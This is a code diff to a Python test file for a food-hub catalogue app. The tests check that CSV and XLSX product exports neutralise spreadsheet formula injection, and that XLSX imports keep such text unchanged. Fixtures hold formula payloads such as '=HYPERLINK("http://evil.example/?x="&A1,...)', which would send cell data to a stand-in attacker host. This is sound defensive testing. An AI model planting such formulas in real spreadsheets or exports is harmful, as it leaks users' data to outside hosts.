@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 
 from cabas.catalogue.exports import catalogue_csv, catalogue_xlsx
 from cabas.catalogue.imports import OFN_COLUMNS, product_import
-from cabas.catalogue.models import Category, TaxRate
+from cabas.catalogue.models import Category, TaxRate, Variant
 from cabas.enterprises.models import Relationship
 from tests.factories import (
     EnterpriseFactory,
@@ -130,9 +130,11 @@ def test_it_exports_in_a_constant_number_of_queries(client_for, manager, enterpr
 
 def test_it_exports_a_product_named_like_a_formula_as_text_never_a_formula(client_for, enterprise):
     hub = HubFactory(name="Épicerie du Marché", slug="epicerie")
-    RelationshipFactory(grantor=enterprise, grantee=hub, manage_products=True, status=Relationship.Status.ACCEPTED)
+    RelationshipFactory(grantor=enterprise, grantee=hub, manage_products=True,
+                        status=Relationship.Status.ACCEPTED)
     name = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
-    VariantFactory(product__producer=enterprise, product__name=name, product__description="+33 cmd", sku="EVIL")
+    VariantFactory(product__producer=enterprise, product__name=name, product__description="+33 cmd",
+                   sku="EVIL")
     client = client_for(RoleFactory(enterprise=hub, role="manager").user)
 
     response = client.get(reverse("catalogue:product_export_xlsx", args=[hub.slug]))
@@ -150,3 +152,14 @@ def test_it_exports_a_product_named_like_a_formula_as_text_never_a_formula(clien
     row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert row["name"] == "'" + name  # a leading apostrophe: spreadsheets show the text, never run it
     assert row["description"] == "'+33 cmd"
+
+
+def test_it_round_trips_a_name_starting_like_a_formula_through_xlsx_unchanged(enterprise):
+    VariantFactory(product__producer=enterprise, product__name="-5 % sur les courgettes",
+                   product__description='=HYPERLINK("http://evil.example")', sku="PROMO")
+    homonym = EnterpriseFactory(name="Ferme des Collines", slug="homonyme")
+
+    product_import(enterprise=homonym, name="export.xlsx", data=catalogue_xlsx(enterprise))
+
+    product = Variant.objects.get(product__producer=homonym).product
+    assert (product.name, product.description) == ("-5 % sur les courgettes", '=HYPERLINK("http://evil.example")')
